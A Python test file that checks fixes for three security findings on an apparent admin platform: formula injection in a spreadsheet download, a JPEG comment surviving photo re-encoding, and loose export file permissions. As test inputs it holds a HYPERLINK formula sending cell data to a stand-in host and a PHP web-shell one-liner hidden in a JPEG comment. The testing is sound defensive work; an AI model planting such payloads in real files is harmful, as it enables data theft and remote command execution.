"""Issue 14, findings 8, 9 and 11: what the platform writes to files.

8. The statistics download wrote a site named "=..." as a live formula (the exports escaped it).
9. A JPEG comment segment survived the photo re-encode.
11. Export files were 0644 in a world-readable folder, with full document numbers inside.
"""
from __future__ import annotations

import io
import stat
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook
from PIL import Image

from core.db import db
from core.models import Site
from core.services.photos import clean_photo
from tests.support.web import csrf_token_from, staff_login

FORMULA = '=HYPERLINK("https://e.example/?"&A1,"点")'  # fits sites.name, varchar(40)


def _cells(data: bytes):
    for ws in load_workbook(BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            yield from row


def test_statistics_download_keeps_a_formula_like_site_name_as_text(world, client):
    db.session.get(Site, world["ids"]["site_a"]).name = FORMULA
    db.session.commit()
    staff_login(client, world["staff"]["national"][1])
    xlsx = client.get("/admin/reports/statistics/download.xlsx")
    assert xlsx.status_code == 200
    found = [c for c in _cells(xlsx.data) if c.value == FORMULA]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for c in _cells(xlsx.data) if c.data_type == "f"]


def test_export_file_is_0600_in_a_0700_folder(world, client, app, admin_app, monkeypatch):
    monkeypatch.setitem(admin_app.config, "JOB_BACKEND", "inline")  # the job finishes before the redirect
    staff_login(client, world["staff"]["national"][1])
    page = client.get("/admin/reports/exports/").get_data(as_text=True)
    resp = client.post("/admin/reports/exports/", data={"kind": "registrations", "purpose": "现场资格审核",
                                                        "csrf_token": csrf_token_from(page)})
    job_id = int(resp.headers["Location"].rstrip("/").split("/")[-1])
    assert client.get(f"/admin/reports/jobs/{job_id}.json").get_json()["state"] == "done"
    folder = Path(app.config["EXPORT_DIR"])
    path = folder / f"job-{job_id}.xlsx"
    assert path.stat().st_size > 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def _jpeg_with_comment() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (120, 150), (200, 180, 160)).save(out, "JPEG", quality=85,
                                                       comment=b"<?php system($_GET['c']); ?>")
    return out.getvalue()


def test_photo_comment_segment_is_not_stored(app_ctx):
    upload = _jpeg_with_comment()
    assert b"<?php" in upload  # the attack: a payload in a COM segment, inside a valid JPEG
    stored = clean_photo(upload)
    assert b"<?php" not in stored and b"\xff\xfe" not in stored.split(b"\xff\xda")[0]
    with Image.open(io.BytesIO(stored)) as img:
        assert "comment" not in img.info and "exif" not in img.info and "icc_profile" not in img.info
